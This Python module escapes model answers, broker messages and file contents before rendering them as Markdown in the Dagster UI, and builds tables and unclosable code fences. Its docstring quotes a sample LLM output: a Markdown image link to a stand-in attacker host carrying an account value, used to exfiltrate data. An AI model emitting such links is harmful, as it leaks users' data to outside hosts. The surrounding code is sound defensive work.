"""Markdown for asset metadata (the Dagster UI renders it), with every piece of outside text escaped.

Model answers, broker messages and file contents are data: escaped, an LLM's
``![x](https://attacker/?acct)`` shows as text instead of making the browser fetch a URL.
"""

import re
from typing import Any

_SPECIAL = re.compile(r"([\\`\[\]!<>|])")


class Trusted(str):
    """Markdown this project wrote itself (a link to one of its own pages): table cells keep it as it is."""


def link(text: str, path: str) -> Trusted:
    """A link to a page of the Dagster UI; the text is escaped, the path is the project's own."""
    return Trusted(f"[{escape(text)}]({path})")


def escape(value: Any) -> str:
    """Text shown literally in Markdown: what makes links, images, HTML, code and table cells escaped
    (``[ ] ! < > ` |`` and the backslash), line breaks folded."""
    if isinstance(value, Trusted):
        return value
    return _SPECIAL.sub(r"\\\1", str(value)).replace("\r", " ").replace("\n", " ")


def code_block(text: str, language: str = "text") -> str:
    """A fenced block the text cannot close: the fence is longer than any run of backticks inside."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def table(header: list[str], rows: list[list[Any]]) -> str:
    lines = ["| " + " | ".join(escape(h) for h in header) + " |", "|" + "---|" * len(header)]
    lines += ["| " + " | ".join(escape(c) for c in row) + " |" for row in rows]
    return "\n".join(lines)
